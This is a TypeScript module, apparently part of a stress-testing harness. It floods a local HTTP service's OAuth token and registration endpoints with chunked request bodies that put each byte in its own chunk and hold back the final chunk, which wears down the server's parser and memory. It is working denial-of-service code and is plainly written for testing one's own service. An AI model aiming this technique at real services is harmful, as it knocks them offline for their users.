/**
 * Sends bodies in which every byte is a chunk. Each byte of the body takes six bytes on the wire and one event of the
 * parser.
 */
import { once } from "node:events"
import { connect, type Socket } from "node:net"
import { setTimeout as pause } from "node:timers/promises"
import type { AttackOrder, AttackReport } from "./attack.ts"

/** The maximum size of a body is slightly larger. */
const BODY_BYTES = 65_000
const CHUNKS_A_WRITE = 5_000
/** The last chunk is held back for this long, and the service must keep the whole body meanwhile. */
const WITHHELD_MILLISECONDS = 500
const ANSWER_MILLISECONDS = 30_000

const bodies = [
  { path: "/oauth/token", type: "application/x-www-form-urlencoded", byte: "a" },
  { path: "/oauth/register", type: "application/json", byte: " " },
] as const

export async function sendOneByteChunks({ url, count, seconds }: AttackOrder): Promise<AttackReport> {
  const port = Number(new URL(url).port)
  const end = performance.now() + seconds * 1000
  const counts = { bodies: 0, answered: 0, "closed without an answer": 0 }
  const connection = async (_: unknown, n: number) => {
    do {
      counts.bodies++
      if (await sendBody(port, n)) counts.answered++
      else counts["closed without an answer"]++
    } while (performance.now() < end)
  }
  await Promise.all(Array.from({ length: count }, connection))
  return { counts }
}

/** Returns whether a response arrived. */
async function sendBody(port: number, n: number): Promise<boolean> {
  const { path, type, byte } = bodies[n % bodies.length] ?? bodies[0]
  const socket = connect({ host: "127.0.0.1", port })
  socket.resume()
  socket.on("error", () => undefined)
  const closed = once(socket, "close")
  const answered = once(socket, "data").catch(() => undefined)
  const over = Promise.race([closed, answered, pause(ANSWER_MILLISECONDS)])
  socket.write(
    `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n`,
  )
  const piece = Buffer.from(`1\r\n${byte}\r\n`.repeat(CHUNKS_A_WRITE), "latin1")
  for (let sent = 0; sent < BODY_BYTES && isWaiting(socket); sent += CHUNKS_A_WRITE)
    if (!socket.write(piece)) await Promise.race([once(socket, "drain").catch(() => undefined), over])
  if (isWaiting(socket)) {
    await Promise.race([pause(WITHHELD_MILLISECONDS), over])
    if (isWaiting(socket)) socket.write("0\r\n\r\n")
  }
  await over
  socket.destroy()
  return socket.bytesRead > 0
}

/** Whether the connection is open and has no response yet. */
function isWaiting(socket: Socket): boolean {
  return !socket.destroyed && socket.writable && socket.bytesRead === 0
}
